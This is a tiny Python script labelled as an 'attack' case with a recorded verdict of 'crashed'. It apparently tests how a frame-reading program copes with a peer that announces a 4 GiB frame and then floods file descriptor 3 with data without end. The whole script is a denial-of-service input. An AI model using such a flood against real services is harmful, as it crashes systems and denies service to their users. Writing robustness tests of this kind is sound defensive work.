# /// attack
# story = "Announces a frame of 4 GiB and goes on sending."
# verdict = "crashed"
# ///
import os

os.write(3, b"\xff\xff\xff\xff")
while True:
    os.write(3, b"0" * 65536)
